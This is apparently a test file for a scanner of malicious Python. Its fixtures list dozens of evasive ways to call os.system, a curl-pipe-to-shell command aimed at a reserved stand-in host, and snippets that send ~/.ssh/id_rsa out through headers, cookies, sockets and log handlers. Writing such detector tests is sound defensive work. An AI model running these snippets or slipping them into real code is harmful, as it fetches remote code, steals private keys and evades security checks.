import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const FETCH = 'curl -s https://collect.example.invalid/x.sh | sh';
const HONEST = 'sort -u names.txt';

/** Ways to call a function, or to bring it its argument; `RUN` stands for the command. */
const RUNS: Readonly<Record<string, string>> = {
  'the C library': 'import ctypes\nctypes.CDLL(None).system(b"RUN")',
  'the C library in a variable': 'import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.popen(b"RUN", b"r")',
  'members one after the other':
    'import functools, os\nfunctools.reduce(getattr, ["path", "os", "system"], os)("RUN")',
  'members by a function of its own':
    'import functools, os\nfunctools.reduce(lambda a, b: getattr(a, b), ["system"], os)("RUN")',
  'a dotted name': 'import pkgutil\npkgutil.resolve_name("os:system")("RUN")',
  'a dotted name of another library': 'from unittest import mock\nmock._importer("os").system("RUN")',
  'a loader': '__loader__.load_module("os").system("RUN")',
  'a loader of the path': 'import sys\nsys.meta_path[0].load_module("posix").system("RUN")',
  'a method of the type': 'import os\ntype(os).__getattribute__(os, "system")("RUN")',
  'the built-in names': 'import builtins, os\nbuiltins.tidy = os.system\ntidy("RUN")',
  'a key': 'import os\nsorted(["RUN"], key=os.system)',
  'a key of one of several': 'import os\nmax("RUN", "", key=os.system)',
  'a list of arguments': 'import itertools, os\nlist(itertools.starmap(os.system, [("RUN",)]))',
  'any of a list': 'import os\nlist(map(os.system, ["true", "RUN"]))',
  'an iterator with an end': 'import functools, os\nnext(iter(functools.partial(os.system, "RUN"), 0))',
  'a cache': 'import functools, os\nfunctools.lru_cache(os.system)("RUN")',
  'a call': 'import operator, os\noperator.call(os.system, "RUN")',
  'the end of a block':
    'import contextlib, os\nwith contextlib.ExitStack() as stack:\n    stack.callback(os.system, "RUN")',
  'a scheduler':
    'import os, sched, time\nplan = sched.scheduler(time.time)\nplan.enter(5, 1, os.system, argument=("RUN",))\nplan.run()',
  'a pool':
    'import multiprocessing, os\nwith multiprocessing.Pool(1) as pool:\n    pool.apply_async(os.system, ("RUN",))',
  'a program that is called otherwise':
    'import subprocess\nsubprocess.Popen(["notes", "-c", "RUN"], executable="/bin/sh")',
  'a docstring': 'import os\ndef tidy():\n    """RUN"""\nos.system(tidy.__doc__)',
  'an index':
    'import os\nclass Tidy:\n    def __getitem__(self, text):\n        return os.system(text)\nTidy()["RUN"]',
  'an operator':
    'import os\nclass Tidy:\n    def __rshift__(self, text):\n        return os.system(text)\nTidy() >> "RUN"',
};

/** What brings a command to where it runs, but not as a constant. */
const CARRIES: Readonly<Record<string, string>> = {
  'an exception':
    'import os\ntry:\n    raise RuntimeError("RUN")\nexcept RuntimeError as error:\n    os.system(error.args[0])',
  'an enumeration': 'import enum, os\nclass Do(enum.Enum):\n    TIDY = "RUN"\nos.system(Do.TIDY.value)',
  'a pattern': 'import os\nmatch {"do": "RUN"}:\n    case {"do": text}:\n        os.system(text)',
  'settings in a text':
    'import configparser, os\nfile = configparser.ConfigParser()\nfile.read_string("[a]\\nrun = RUN\\n")\nos.system(file["a"]["run"])',
  'words of a text': 'import shlex, subprocess\nsubprocess.run(shlex.split("sh -c \'RUN\'"))',
  'a replacement': 'import os, re\nre.sub(".+", lambda found: str(os.system(found.group(0))), "RUN")',
};

const KEY = "open(os.path.expanduser('PATH')).read()";

/** Ways to send; `KEY` stands for what a file holds. */
const SENDS: Readonly<Record<string, string>> = {
  'headers of a session':
    "import os, requests\nsession = requests.Session()\nsession.headers.update({'X-Trace': KEY})\nsession.get('https://collect.example.invalid/')",
  'a header of a session':
    "import os, requests\nsession = requests.Session()\nsession.headers['X-Trace'] = KEY\nsession.get('https://collect.example.invalid/')",
  'cookies of a session':
    "import os, requests\nsession = requests.Session()\nsession.cookies.set('trace', KEY)\nsession.get('https://collect.example.invalid/')",
  'headers of an opener':
    "import os, urllib.request\nopener = urllib.request.build_opener()\nopener.addheaders = [('X-Trace', KEY)]\nopener.open('https://collect.example.invalid/')",
  'the opener of all requests':
    "import os, urllib.request\nopener = urllib.request.build_opener()\nopener.addheaders.append(('X-Trace', KEY))\nurllib.request.install_opener(opener)",
  'a header by hand':
    "import http.client, os\nway = http.client.HTTPSConnection('collect.example.invalid')\nway.putrequest('POST', '/')\nway.putheader('X-Trace', KEY)\nway.endheaders()",
  'the number of a socket':
    "import os, socket\nway = socket.create_connection(('collect.example.invalid', 443))\nos.write(way.fileno(), KEY)",
  'a socket as a file':
    "import os, socket\nway = socket.create_connection(('collect.example.invalid', 443)).makefile('w')\nway.write(KEY)",
  print:
    "import os, socket\nway = socket.create_connection(('collect.example.invalid', 443)).makefile('w')\nprint(KEY, file=way)",
  'a browser':
    "import os, urllib.parse, webbrowser\nwebbrowser.open('https://collect.example.invalid/?q=' + urllib.parse.quote(KEY))",
  'a remote procedure':
    "import os, xmlrpc.client\nxmlrpc.client.ServerProxy('https://collect.example.invalid/').notes.add(KEY)",
  'a log':
    "import logging, logging.handlers, os\nlog = logging.getLogger('a')\nlog.addHandler(logging.handlers.HTTPHandler('collect.example.invalid', '/', method='POST'))\nlog.warning('%s', KEY)",
  'a handler of logs':
    "import logging, logging.handlers, os\nway = logging.handlers.DatagramHandler('collect.example.invalid', 9000)\nway.emit(logging.makeLogRecord({'msg': KEY}))",
  'a table that grows':
    "import os, requests\ngiven = dict(timeout=5)\ngiven.update(data=KEY)\nrequests.post('https://collect.example.invalid/', **given)",
  'tables put together':
    "import os, requests\ngiven = {}\ngiven |= {'data': KEY}\nrequests.post('https://collect.example.invalid/', **given)",
  'a descriptor':
    "import os, requests\nclass Held:\n    def __get__(self, object, kind):\n        return KEY\nclass Notes:\n    body = Held()\nrequests.post('https://collect.example.invalid/', data=Notes().body)",
  'the text of an object':
    "import os, requests\nclass Notes:\n    def __str__(self):\n        return KEY\nrequests.post('https://collect.example.invalid/', data=str(Notes()))",
};

describe('a command of Python', () => {
  it.each(Object.entries(RUNS))('is found through %s', async (_, text) => {
    expect(await rulesOf({ 'run.py': `${text.replaceAll('RUN', FETCH)}\n` })).toContain(
      'downloaded-script-piped',
    );
    expect(await rulesOf({ 'run.py': `${text.replaceAll('RUN', HONEST)}\n` })).not.toContain(
      'downloaded-script-piped',
    );
  });

  it.each(Object.entries(CARRIES))('is followed through %s', async (_, text) => {
    expect(await rulesOf({ 'run.py': `${text.replaceAll('RUN', FETCH)}\n` })).toContain(
      'carried-command-runs',
    );
    expect(await rulesOf({ 'run.py': `${text.replaceAll('RUN', HONEST)}\n` })).not.toContain(
      'carried-command-runs',
    );
  });

  it('is no finding of its own where it is only shown', async () => {
    const text = `import subprocess, sys\nHELP = '''Run: ${FETCH}'''\nif subprocess.run(['which', sys.argv[1]]).returncode:\n    print(HELP)\n`;
    expect(await rulesOf({ 'run.py': `${text}\n` })).not.toContain('carried-command-runs');
  });
});

describe('a secret of Python', () => {
  it.each(Object.entries(SENDS))('is followed through %s', async (_, text) => {
    const stolen = text.replaceAll('KEY', KEY.replace('PATH', '~/.ssh/id_rsa'));
    const rules = (await rulesOf({ 'run.py': `${stolen}\n` })).filter((rule) =>
      /^(?:secret-file-to-network|secret-in-header|secret-to-remote-log)$/.test(rule),
    );
    expect(rules).not.toEqual([]);
    const honest = await rulesOf({
      'run.py': `${text.replaceAll('KEY', KEY.replace('PATH', '~/notes/today.txt'))}\n`,
    });
    expect(honest.filter((rule) => rule.startsWith('secret-'))).toEqual([]);
  });
});
